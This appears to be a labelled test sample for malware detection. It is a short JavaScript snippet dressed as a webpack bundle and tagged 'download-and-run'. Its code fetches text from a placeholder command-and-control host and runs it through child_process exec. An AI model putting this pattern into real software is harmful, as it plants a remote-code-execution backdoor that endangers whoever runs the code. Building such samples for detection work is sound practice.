// expect: download-and-run | source: T1027, a bundle of webpack
(() => {
  var modules = {
    317: (module) => { "use strict"; module.exports = require("child_process"); },
    692: (module) => { "use strict"; module.exports = require("https"); },
  };
  function load(id) { const module = { exports: {} }; modules[id](module); return module.exports; }
  (() => {
    const a = load(317);
    load(692).get("https://c2.example.invalid/x", (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => a.exec(d)); });
  })();
})();
